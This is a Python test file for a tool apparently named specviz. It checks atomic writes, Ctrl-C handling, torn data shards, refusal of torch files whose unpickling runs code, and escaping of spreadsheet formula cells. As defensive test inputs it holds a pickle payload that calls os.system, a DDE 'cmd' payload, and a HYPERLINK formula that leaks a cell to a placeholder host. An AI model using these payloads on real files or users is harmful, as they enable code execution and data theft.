"""Files specviz writes are whole or absent, torch files it reads run no code, and CSV cells a
spreadsheet would run are exported as text. (Drafts saved under a real Ctrl-C: test_draft_save.py;
two processes converting the default model: test_default_conversion.py.)"""

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import zipfile

import pytest
import torch

from specviz.common import SpecvizError, atomic_open, deferred_signals, load_tensors, write_atomic


class _RunsCode:
    """What a hostile .pt holds: unpickling it calls os.system (here: touch a marker file)."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _crafted_pt(path, marker):
    torch.save({"fingerprint": "x", "step": 3, "payload": _RunsCode(marker)}, path)
    return path


def test_a_pt_whose_unpickling_would_run_code_is_refused_in_one_line_and_nothing_runs(tmp_path):
    marker = tmp_path / "ran"
    crafted = _crafted_pt(tmp_path / "train-state.pt", marker)
    with pytest.raises(SpecvizError) as e:
        load_tensors(crafted, "training state")
    assert "\n" not in str(e.value) and "could run code" in str(e.value) and "system" in str(e.value)
    assert not marker.exists()
    # the file is armed: plain unpickling (torch.load's old default) runs it; in a child, so this process stays clean
    arm = ("import pickle, sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); "
           "pickle.loads(z.read(next(n for n in z.namelist() if n.endswith('data.pkl'))))")
    subprocess.run([sys.executable, "-c", arm, str(crafted)], capture_output=True, timeout=120)
    assert marker.exists()


def test_resuming_from_a_planted_train_state_is_refused_and_runs_nothing(tmp_path):
    from torch import nn

    from fakes import tiny_llama
    from specviz.distill.token import collate_tokens, token_loss, token_tensors
    from specviz.distill.train import train
    from specviz.models.distilled import build_draft, draft_config

    tiny = tiny_llama(64)
    emb = nn.Embedding.from_pretrained(tiny.model.get_input_embeddings().weight.detach().clone(), freeze=True)
    draft = build_draft(draft_config(tiny.model.config, 1), emb, list(range(0, 64, 2))).float()
    g = torch.Generator().manual_seed(0)
    samples = [{"prompt_ids": [1, 2], "output_ids": [3, 4, 5], "topk_ids": torch.randint(0, 64, (3, 4), generator=g).numpy(),
                "topk_logits": torch.randn(3, 4, generator=g).numpy()} for _ in range(4)]
    data = token_tensors(samples, list(range(0, 64, 2)), 64)
    marker = tmp_path / "ran"
    state = _crafted_pt(tmp_path / "train-state.pt", marker)
    with pytest.raises(SpecvizError, match="training state .*train-state.pt was not loaded"):
        train(draft, data, [], steps=2, batch_size=2, lr=1e-3, seed=0, loss_fn=token_loss, collate=collate_tokens,
              autocast=False, state_path=state)
    assert not marker.exists()


def test_a_planted_feature_shard_is_refused_in_one_line_and_runs_nothing(tmp_path):
    from specviz.distill.feature import read_feature_samples

    marker = tmp_path / "ran"
    _crafted_pt(tmp_path / "train-00000.pt", marker)
    with pytest.raises(SpecvizError, match="feature shard .*train-00000.pt was not loaded") as e:
        read_feature_samples(tmp_path, "train")
    assert "\n" not in str(e.value) and not marker.exists()


def test_a_torn_torch_file_is_one_clear_error(tmp_path):
    good = tmp_path / "s.pt"
    torch.save({"w": torch.ones(64)}, good)
    torn = tmp_path / "torn.pt"
    torn.write_bytes(good.read_bytes()[:100])
    with pytest.raises(SpecvizError, match="torn.pt is not a readable torch file") as e:
        load_tensors(torn)
    assert "\n" not in str(e.value)
    assert torch.equal(load_tensors(good)["w"], torch.ones(64))


# ---- files written whole ---------------------------------------------------------------------

def test_a_write_that_fails_midway_leaves_the_old_file_and_no_temp_file(tmp_path):
    path = write_atomic(tmp_path / "report.json", '{"old": true}')
    with pytest.raises(RuntimeError):
        with atomic_open(path) as f:
            f.write(b'{"new": ')
            raise RuntimeError("killed mid-write")
    assert path.read_text() == '{"old": true}'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_written_files_get_the_umasks_permissions_not_a_private_temp_files(tmp_path):
    old = os.umask(0o022)
    try:
        path = write_atomic(tmp_path / "README.md", "x")
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644


def test_a_ctrl_c_inside_deferred_signals_acts_as_the_block_ends_with_torch_threads_running(ctrl_c_raises):
    torch.ones(256, 256) @ torch.ones(256, 256)  # torch's worker threads exist: one could take the signal
    done = []
    with pytest.raises(KeyboardInterrupt):
        with deferred_signals():
            os.kill(os.getpid(), signal.SIGINT)
            for _ in range(1000):  # plenty of points where Python would run a signal handler
                torch.ones(64, 64) @ torch.ones(64, 64)
            done.append(True)
    assert done
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # the caller's handler is back


def test_a_ctrl_c_in_the_let_through_part_acts_at_once():
    caught = []
    old = signal.signal(signal.SIGINT, lambda signum, frame: caught.append("handler"))
    try:
        with deferred_signals() as let_through:
            with let_through():
                os.kill(os.getpid(), signal.SIGINT)
                for _ in range(1000):
                    if caught:
                        break
                caught.append("inside")
            caught.append("after")
    finally:
        signal.signal(signal.SIGINT, old)
    assert caught == ["handler", "inside", "after"]


def test_deferred_signals_off_the_main_thread_change_no_handler():
    seen = []

    def run():
        with deferred_signals() as let_through:
            with let_through():
                seen.append(signal.getsignal(signal.SIGINT))
    before = signal.getsignal(signal.SIGINT)
    t = threading.Thread(target=run)
    t.start()
    t.join()
    assert seen == [before]


def test_a_ctrl_c_as_the_temp_file_is_made_leaves_the_old_file_and_no_temp_file(tmp_path, monkeypatch, ctrl_c_raises):
    path = write_atomic(tmp_path / "report.json", '{"old": true}')
    real_open = os.open

    def opening(*a, **kw):
        fd = real_open(*a, **kw)
        os.kill(os.getpid(), signal.SIGINT)  # lands between the temp file's creation and what removes it
        return fd
    monkeypatch.setattr(os, "open", opening)
    with pytest.raises(KeyboardInterrupt):
        with atomic_open(path) as f:
            f.write(b'{"new": ')
    monkeypatch.undo()
    assert path.read_text() == '{"old": true}'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_a_dead_writers_temp_file_is_removed_and_a_live_ones_kept(tmp_path):
    from specviz.common import ATOMIC_TEMP, remove_dead_temps

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    live = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        stale = tmp_path / f".train-00001.pt.{dead.pid}-1-0123abcd.tmp"
        busy = tmp_path / f".train-00002.pt.{live.pid}-1-0123abcd.tmp"
        other = tmp_path / "train-00000.pt"
        for p in (stale, busy, other):
            p.write_bytes(b"x")
        assert remove_dead_temps(tmp_path, ATOMIC_TEMP) == [stale]
        assert not stale.exists() and busy.exists() and other.exists()
    finally:
        live.kill()
        live.wait()


def test_exported_tables_leave_the_old_files_when_an_export_fails(tmp_path, monkeypatch):
    import specviz.analysis.trace as tr
    from test_trace import make_dummy

    steps, seqs = make_dummy([[(3, 3), (3, 0)]])
    trace = tr.build_trace({"mode": "speculative"}, {"device": "cpu"}, seqs, steps, [], 1.0, 0.1)
    tr.export_tables(trace, tmp_path, "parquet")
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    real = tr.to_tables

    def tables_then_fail(t):
        tables = real(t)

        class Torn(type(tables["steps"])):
            def to_parquet(self, f, *a, **kw):
                f.write(b"PAR1 half a file")
                raise OSError(28, "No space left on device")

        tables["steps"] = Torn(tables["steps"])
        return tables

    monkeypatch.setattr(tr, "to_tables", tables_then_fail)
    with pytest.raises(OSError, match="No space"):
        tr.export_tables(trace, tmp_path, "parquet")
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()}["steps.parquet"] == before["steps.parquet"]
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# ---- JSONL shards: a torn tail is cut, so the next record keeps its own line -------------------

def _record(i: int) -> dict:
    import numpy as np

    from specviz.distill.data import _enc

    return {"sample": i, "prompt": f"p{i}", "temperature": 0.0, "prompt_ids": [1], "output_ids": [2, 3],
            "finish_reason": "length", "topk": 2, "ids_dtype": "uint16",
            "topk_ids": _enc(np.array([[2, 5], [3, 6]], dtype=np.uint16)),
            "topk_logits": _enc(np.zeros((2, 2), dtype=np.float16))}


def test_appending_to_a_torn_shard_cuts_the_fragment_and_loses_no_later_record(tmp_path):
    from specviz.distill.data import open_shard, read_samples

    shard = tmp_path / "train-0.jsonl"
    whole = json.dumps(_record(0)) + "\n" + json.dumps(_record(1)) + "\n"
    shard.write_text(whole + json.dumps(_record(2))[:40])  # killed mid-line
    assert [s["sample"] for s in read_samples([shard])] == [0, 1]  # reading skips the fragment, changes nothing
    assert shard.read_text().endswith(json.dumps(_record(2))[:40])
    with open_shard(shard) as f:
        f.write(json.dumps(_record(3)) + "\n")
    assert shard.read_text() == whole + json.dumps(_record(3)) + "\n"
    assert [s["sample"] for s in read_samples([shard])] == [0, 1, 3]


def test_a_last_line_that_is_not_a_record_is_cut_before_appending(tmp_path):
    from specviz.distill.data import open_shard, read_samples, trim_torn_tail

    shard = tmp_path / "text-0.jsonl"
    good = json.dumps(_record(0)) + "\n"
    shard.write_text(good + '{"sample": 1, "prompt": "\x00\x00\x00\n')  # a newline, but garbage before it
    with open_shard(shard) as f:
        f.write(json.dumps(_record(2)) + "\n")
    assert [s["sample"] for s in read_samples([shard])] == [0, 2]
    assert trim_torn_tail(shard) == 0  # a whole shard is left alone
    empty = tmp_path / "train-1.jsonl"
    empty.write_text("")
    assert trim_torn_tail(empty) == 0


def test_a_record_glued_to_an_older_versions_torn_fragment_is_still_read(tmp_path):
    from specviz.distill.data import read_samples

    shard = tmp_path / "train-0.jsonl"
    shard.write_text(json.dumps(_record(0))[:50] + json.dumps(_record(1)) + "\n")
    assert [s["sample"] for s in read_samples([shard])] == [1]


# ---- CSV cells a spreadsheet would run ---------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _hostile_trace():
    from specviz.analysis.trace import build_trace
    from test_trace import make_dummy

    steps, seqs = make_dummy([[(3, 3), (3, 0)], [(3, 1), (3, 2)]])
    seqs[0].update(prompt=FORMULA, text="+1+cmd|' /C calc'!A0")
    seqs[1].update(prompt="@SUM(1,2)", text="-2+3", t_join=-1.5)
    seqs[0]["t_join"] = -0.25
    for s in steps:
        s["t_offset"] = -0.125  # a negative number column
    return build_trace({"mode": "speculative"}, {"device": "cpu"}, seqs, steps, [], 1.0, 0.1)


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _check_tables(read):
    import pandas as pd

    seqs = _cells(read("sequences"))
    assert seqs[0]["prompt"] == "'" + FORMULA and seqs[0]["text"] == "'+1+cmd|' /C calc'!A0"
    assert seqs[1]["prompt"] == "'@SUM(1,2)" and seqs[1]["text"] == "'-2+3"
    assert [r["t_join"] for r in seqs] == ["-0.25", "-1.5"]  # numbers are not quoted
    steps = pd.read_csv(io.StringIO(read("steps")))
    assert pd.api.types.is_float_dtype(steps["t_offset"]) and (steps["t_offset"] == -0.125).all()
    assert pd.read_csv(io.StringIO(read("rows")))["accepted"].sum() == 6


def test_exported_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_numbers_stay_numbers(tmp_path):
    from specviz.analysis.trace import export_tables

    export_tables(_hostile_trace(), tmp_path, "csv")
    _check_tables(lambda name: (tmp_path / f"{name}.csv").read_bytes().decode())


def test_the_live_pages_csv_zip_quotes_formula_cells_too():
    from specviz.app.upload import trace_csv_zip

    with zipfile.ZipFile(io.BytesIO(trace_csv_zip(_hostile_trace()))) as z:
        _check_tables(lambda name: z.read(f"{name}.csv").decode())


def test_a_formula_column_name_from_an_uploaded_trace_is_quoted_too():
    import pandas as pd

    from specviz.analysis.trace import csv_text

    text = csv_text(pd.DataFrame({"=cmd()": ["\tx", "\rY", "ok\r=cmd()"], "n": [-1, 2, -3]}))
    # a CR inside a cell is quoted: a spreadsheet cannot take it for a row break that starts a formula cell
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["'=cmd()", "n"], ["'\tx", "-1"], ["'\rY", "2"],
                                                                ["ok\r=cmd()", "-3"]]
    assert '"ok\r=cmd()"' in text
